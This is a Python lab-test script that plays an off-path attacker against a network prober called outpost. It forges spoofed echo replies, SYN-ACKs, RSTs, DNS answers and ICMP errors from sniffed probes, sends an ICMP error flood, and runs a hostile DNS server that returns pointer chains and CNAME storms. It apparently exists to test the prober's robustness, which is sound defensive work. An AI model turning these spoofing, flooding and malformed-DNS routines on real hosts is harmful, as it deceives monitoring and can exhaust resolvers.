#!/usr/bin/python3
"""An off-path attacker for outpost's lab test (test_agent_offpath.sh).

Runs inside one target network's namespace (netlab's net1). It sees every
probe the vantage point sends to that network and, from what it saw and what
it can guess, tries to make a dead target on another network look alive:

  echo_reply     echo replies "from" the dead target: the idents, sequences
                 and payloads of echo requests seen toward us, and neighbours
  syn_ack, rst   SYN-ACKs and RSTs "from" the dead target's port, to the
                 source ports seen toward us and their neighbours (the SYN
                 probes' ports are sequential), acknowledging the seen ISN+1
  dns_answer     DNS answers "from" the dead target's port 53 with the ids
                 seen toward us, to the seen source ports and their neighbours
  icmp_quote     time-exceeded and unreachables quoting the seen probes with
                 their destination rewritten to the dead target
  flood          (a window of it) ICMP errors at a fixed rate: port
                 unreachables "from" the dead target sweeping the ephemeral
                 ports of a DNS query toward it, time-exceeded and
                 unreachables quoting guessed echo and SYN probes
  dns_chain, dns_storm, dns_storm_tcp
                 its own DNS server (UDP and TCP on our hosts' port 53)
                 answers names starting with "chain" with pointer chains
                 that fill a 64 KB datagram, and names starting with "storm"
                 with thousands of CNAMEs (over UDP with TC set, so the
                 prober asks again over TCP and gets the whole storm there)

Packets are built with scapy (Debian's python3-scapy: run with
/usr/bin/python3) and sent through a raw socket; the flood patches prebuilt
bytes, so that its rate does not hang on scapy's speed. Every packet goes to
the vantage point's address, inside the lab. On SIGTERM (or after
--run-for) it writes what it sent, per kind, as JSON to --stats.
"""

import argparse
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import threading
import time
from collections import deque

from scapy.all import DNS, DNSQR, DNSRR, ICMP, IP, TCP, UDP, Raw, conf  # noqa: E402

conf.verb = 0

ETH_P_IP = 0x0800
SOL_PACKET = 263
PACKET_IGNORE_OUTGOING = 23

stop = threading.Event()
lock = threading.Lock()
sent = {}
seen = {"echo": deque(maxlen=32), "syn": deque(maxlen=32), "dns": deque(maxlen=32)}
seen_count = {"echo": 0, "syn": 0, "dns": 0}


def count(kind, n=1):
    with lock:
        sent[kind] = sent.get(kind, 0) + n


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Sender:
    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)

    def send(self, data, dst, kind):
        try:
            self.sock.sendto(data, (dst, 0))
            count(kind)
        except OSError:
            count(kind + "_send_error")


# ---------------------------------------------------------------- sniffing

def sniff(iface, vp, own_prefix):
    """Probes from the vantage point toward our network, as they arrive."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
    s.bind((iface, ETH_P_IP))
    s.settimeout(0.2)
    vp_bytes = socket.inet_aton(vp)
    while not stop.is_set():
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        raw = frame[14:]
        if len(raw) < 20 or raw[12:16] != vp_bytes or not socket.inet_ntoa(raw[16:20]).startswith(own_prefix):
            continue
        pkt = IP(raw)
        if pkt.haslayer(ICMP) and pkt[ICMP].type == 8:
            kind = "echo"
        elif pkt.haslayer(TCP) and pkt[TCP].flags == "S":
            kind = "syn"
        elif pkt.haslayer(UDP) and pkt[UDP].dport == 53 and pkt.haslayer(DNS):
            kind = "dns"
        else:
            continue
        with lock:
            seen[kind].append(pkt)
            seen_count[kind] += 1


# ----------------------------------------------------------- forging from what was seen

def rewritten_quote(pkt, dead, ttl=1):
    """The seen probe as if it had gone to the dead target (its L4 as seen)."""
    q = pkt.copy()
    q[IP].dst = dead
    q[IP].ttl = ttl
    del q[IP].chksum
    if q.haslayer(TCP):
        del q[TCP].chksum  # the pseudo-header changed with the destination
    if q.haslayer(UDP):
        del q[UDP].chksum
    return bytes(q)[:28 + 64]


def forge_round(sender, vp, dead, border, dns_question):
    with lock:
        echoes, syns, queries = list(seen["echo"])[-4:], list(seen["syn"])[-4:], list(seen["dns"])[-4:]
        for k in seen:
            seen[k].clear()
    for p in echoes:
        e = p[ICMP]
        payload = bytes(e.payload)
        for ident, seq in ((e.id, e.seq), (e.id, e.seq + 1), (e.id + 1, e.seq), (e.id ^ 0xFFFF, e.seq),
                           (random.getrandbits(16), e.seq + 1), (random.getrandbits(16), random.getrandbits(16))):
            r = IP(src=dead, dst=vp, ttl=60) / ICMP(type=0, id=ident & 0xFFFF, seq=seq & 0xFFFF) / Raw(payload)
            sender.send(bytes(r), vp, "echo_reply")
        for src, t, c in ((border, 11, 0), (dead, 3, 1), (dead, 3, 3)):
            err = IP(src=src, dst=vp, ttl=60) / ICMP(type=t, code=c) / Raw(rewritten_quote(p, dead))
            sender.send(bytes(err), vp, "icmp_quote")
    for p in syns:
        t = p[TCP]
        for d in range(-4, 9):
            port = t.sport + d
            if not 0 < port < 65536:
                continue
            for flags, kind in (("SA", "syn_ack"), ("RA", "rst")):
                r = IP(src=dead, dst=vp, ttl=60) / TCP(sport=t.dport, dport=port, flags=flags,
                                                        seq=random.getrandbits(32), ack=(t.seq + 1) & 0xFFFFFFFF)
                sender.send(bytes(r), vp, kind)
        for src, ty, c in ((border, 11, 0), (dead, 3, 1)):
            err = IP(src=src, dst=vp, ttl=60) / ICMP(type=ty, code=c) / Raw(rewritten_quote(p, dead))
            sender.send(bytes(err), vp, "icmp_quote")
    for p in queries:
        u, d = p[UDP], p[DNS]
        for delta in (0, 1, -1, 2):
            port = u.sport + delta
            if not 0 < port < 65536:
                continue
            for qd in (d.qd, DNSQR(qname=dns_question, qtype="A")):
                r = IP(src=dead, dst=vp, ttl=60) / UDP(sport=53, dport=port) / DNS(
                    id=d.id, qr=1, aa=1, rd=d.rd, qd=qd, an=DNSRR(rrname=qd.qname, type="A", ttl=60, rdata="6.6.6.6"))
                sender.send(bytes(r), vp, "dns_answer")
        err = IP(src=dead, dst=vp, ttl=60) / ICMP(type=3, code=3) / Raw(rewritten_quote(p, dead, ttl=64))
        sender.send(bytes(err), vp, "icmp_quote")


def forger(sender, args):
    while not stop.wait(0.02):
        forge_round(sender, args.vp, args.dead, args.border, args.dead_question)


# ------------------------------------------------------------------- flood

def flood_templates(vp, dead, border, question, ephemeral=(32768, 60999)):
    """ICMP errors as bytes, each with a function that varies it per packet."""
    query = bytes(DNS(id=0, rd=1, qd=DNSQR(qname=question, qtype="A")))

    def icmp_error(src, typ, code, quote):
        icmp = struct.pack("!BBHI", typ, code, 0, 0) + quote
        return bytearray(bytes(IP(src=src, dst=vp, ttl=60, proto=1, len=20 + len(icmp))) + icmp)

    def quoted_ip(proto, l4):
        return bytearray(bytes(IP(src=vp, dst=dead, ttl=64, proto=proto, id=0, len=20 + len(l4))) + l4)

    def fix(pkt):
        pkt[22:24] = b"\0\0"
        pkt[22:24] = struct.pack("!H", checksum(bytes(pkt[20:])))

    # Port unreachable from the dead target for a DNS query from each ephemeral port.
    udp_quote = quoted_ip(17, struct.pack("!HHHH", ephemeral[0], 53, 8 + len(query), 0) + query)
    port_unreach = icmp_error(dead, 3, 3, bytes(udp_quote))

    def next_port_unreach(i):
        port = ephemeral[0] + i % (ephemeral[1] - ephemeral[0] + 1)
        port_unreach[28 + 20:28 + 22] = struct.pack("!H", port)
        port_unreach[28 + 28:28 + 30] = struct.pack("!H", random.getrandbits(16))  # a guessed DNS id
        fix(port_unreach)
        return port_unreach

    # Time exceeded from the border quoting a guessed echo request toward the dead target.
    echo_quote = quoted_ip(1, struct.pack("!BBHHH", 8, 0, 0, 0, 0) + os.urandom(24))
    time_exceeded = icmp_error(border, 11, 0, bytes(echo_quote))

    def next_time_exceeded(i):
        time_exceeded[28 + 20 + 2:28 + 20 + 8] = os.urandom(6)  # checksum, ident, sequence
        fix(time_exceeded)
        return time_exceeded

    # Host unreachable from the dead target quoting a guessed SYN to its port 80.
    syn_quote = quoted_ip(6, struct.pack("!HHIIBBHHH", 0, 80, 0, 0, 0x50, 0x02, 64240, 0, 0))
    host_unreach = icmp_error(dead, 3, 1, bytes(syn_quote))

    def next_host_unreach(i):
        host_unreach[28 + 20:28 + 20 + 2] = struct.pack("!H", random.randint(1024, 65535))
        host_unreach[28 + 20 + 4:28 + 20 + 8] = os.urandom(4)
        fix(host_unreach)
        return host_unreach

    return [next_port_unreach, next_port_unreach, next_time_exceeded, next_host_unreach]


def flood(sender, args):
    if stop.wait(args.flood_after):
        return
    lo, hi = (int(p) for p in args.ephemeral.split("-"))
    makers = flood_templates(args.vp, args.dead, args.border, args.dead_question, (lo, hi))
    start = time.monotonic()
    end = start + args.flood_seconds
    i = 0
    with lock:
        sent["flood_started_s"] = round(time.time(), 3)
    while not stop.is_set():
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * args.flood_pps)
        while i < due and not stop.is_set():
            sender.send(bytes(makers[i % len(makers)](i // len(makers))), args.vp, "flood")
            i += 1
        time.sleep(0.002)
    with lock:
        sent["flood_ended_s"] = round(time.time(), 3)


# --------------------------------------------------------------- hostile DNS

def dns_header(ident, flags, qd, an):
    return struct.pack("!HHHHHH", ident, flags, qd, an, 0, 0)


def parse_query(msg):
    """(id, rd flag, question bytes, name) of a query, or None."""
    if len(msg) < 17:
        return None
    ident, flags = struct.unpack("!HH", msg[:4])
    pos, labels = 12, []
    while pos < len(msg) and msg[pos] != 0:
        n = msg[pos]
        if n > 63:
            return None
        labels.append(msg[pos + 1:pos + 1 + n].decode("ascii", "replace"))
        pos += 1 + n
    end = pos + 5
    if end > len(msg):
        return None
    return ident, flags & 0x0100, msg[12:end], ".".join(labels).lower()


def pointer_chain(ident, rd, question, deep_names):
    """A 64 KB answer whose names follow pointers: a chain of pointers in the
    first answer's data, and as many answers as fit whose names point at its
    end. deep_names: each name follows the whole chain (about 8,000 pointers,
    far past any name's limit); else chains of 200, many names (the work is
    in their number)."""
    max_size = 65507
    head = 12 + len(question)
    chain_len = 8000 if deep_names else 200
    # The first answer: owner = the question's name, type NULL, data = the chain.
    rr_head = struct.pack("!HHHIH", 0xC00C, 10, 1, 60, 0)
    base = head + len(rr_head)
    data = bytearray(b"\x01a\x00")  # the chain's end: the name "a."
    offsets = [base]
    for k in range(chain_len):
        at = base + len(data)
        if at + 2 > 0x3FFF:
            break
        data += struct.pack("!H", 0xC000 | offsets[-1])
        offsets.append(at)
    rr_head = rr_head[:-2] + struct.pack("!H", len(data))
    body = bytearray(rr_head + data)
    target = offsets[-1]
    rr = struct.pack("!HHHIH", 0xC000 | target, 1, 1, 60, 4) + bytes([198, 18, 9, 9])
    n = (max_size - head - len(body)) // len(rr)
    body += rr * n
    return dns_header(ident, 0x8400 | rd, 1, 1 + n) + question + bytes(body)


def cname_storm(ident, rd, question, tcp):
    """Thousands of CNAMEs: the first 40 to 250-character names, the rest short;
    over UDP a few of them with TC set."""
    long_label = b"\x3f" + b"x" * 63
    rrs = []
    for k in range(40):
        target = long_label * 3 + bytes([40]) + (b"%04d" % k) + b"y" * 36 + b"\xc0\x0c"  # 250 characters
        rrs.append(struct.pack("!HHHIH", 0xC00C, 5, 1, 60, len(target)) + target)
    limit = 65535 - 12 - len(question)
    size = sum(len(r) for r in rrs)
    k = 0
    while tcp or len(rrs) < 60:
        target = b"\x05c" + (b"%04d" % k) + b"\xc0\x0c"
        r = struct.pack("!HHHIH", 0xC00C, 5, 1, 60, len(target)) + target
        if size + len(r) > limit or (not tcp and len(rrs) >= 60):
            break
        rrs.append(r)
        size += len(r)
        k += 1
    flags = 0x8400 | rd | (0 if tcp else 0x0200)
    return dns_header(ident, flags, 1, len(rrs)) + question + b"".join(rrs)


def hostile_answer(msg, tcp, counter):
    q = parse_query(msg)
    if not q:
        return None
    ident, rd, question, name = q
    if name.startswith("chain"):
        counter[0] += 1
        count("dns_chain")
        return pointer_chain(ident, rd, question, deep_names=counter[0] % 2 == 0)
    if name.startswith("storm"):
        count("dns_storm_tcp" if tcp else "dns_storm")
        return cname_storm(ident, rd, question, tcp)
    return dns_header(ident, 0x8405 | rd, 1, 0) + question  # REFUSED


def dns_server(addresses):
    udp, tcp = [], []
    for a in addresses:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 21)
        u.bind((a, 53))
        udp.append(u)
        t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        t.bind((a, 53))
        t.listen(16)
        tcp.append(t)
    counter = [0]
    while not stop.is_set():
        ready, _, _ = select.select(udp + tcp, [], [], 0.2)
        for s in ready:
            if s in udp:
                msg, peer = s.recvfrom(65535)
                answer = hostile_answer(msg, False, counter)
                if answer:
                    try:
                        s.sendto(answer, peer)
                    except OSError:
                        count("dns_send_error")
                continue
            conn, _ = s.accept()
            conn.settimeout(1.0)
            try:
                head = conn.recv(2, socket.MSG_WAITALL)
                msg = conn.recv(struct.unpack("!H", head)[0], socket.MSG_WAITALL) if len(head) == 2 else b""
                answer = hostile_answer(msg, True, counter)
                if answer:
                    conn.sendall(struct.pack("!H", len(answer)) + answer)
            except (OSError, struct.error):
                count("dns_tcp_error")
            finally:
                conn.close()


# -------------------------------------------------------------------- main

def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--iface", required=True, help="our interface toward the vantage point's path")
    ap.add_argument("--vp", required=True, help="the vantage point's address (the only destination)")
    ap.add_argument("--own-prefix", required=True, help="our network's addresses start with this (e.g. 198.18.0.)")
    ap.add_argument("--dead", required=True, help="the dead target we pretend to be")
    ap.add_argument("--dead-question", default="www.lab.test", help="the name we guess it is asked")
    ap.add_argument("--border", required=True, help="a router on the path, a plausible source of time-exceeded")
    ap.add_argument("--dns", nargs="*", default=[], help="our addresses to serve hostile DNS on")
    ap.add_argument("--ephemeral", default="32768-60999",
                    help="the vantage point's ephemeral ports, LO-HI (Linux's default range)")
    ap.add_argument("--flood-after", type=float, default=10.0)
    ap.add_argument("--flood-seconds", type=float, default=10.0)
    ap.add_argument("--flood-pps", type=float, default=3000.0)
    ap.add_argument("--run-for", type=float, default=120.0)
    ap.add_argument("--stats", required=True)
    ap.add_argument("--ready", help="a file to create once listening and sniffing")
    args = ap.parse_args()

    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    sender = Sender()
    threads = [threading.Thread(target=sniff, args=(args.iface, args.vp, args.own_prefix), daemon=True),
               threading.Thread(target=forger, args=(sender, args), daemon=True),
               threading.Thread(target=flood, args=(sender, args), daemon=True)]
    if args.dns:
        threads.append(threading.Thread(target=dns_server, args=(args.dns,), daemon=True))
    for t in threads:
        t.start()
    if args.ready:
        time.sleep(0.3)
        open(args.ready, "w").close()
    stop.wait(args.run_for)
    stop.set()
    for t in threads:
        t.join(timeout=3)
    with lock:
        report = {"sent": dict(sent), "seen": dict(seen_count)}
    with open(args.stats, "w") as f:
        json.dump(report, f, sort_keys=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
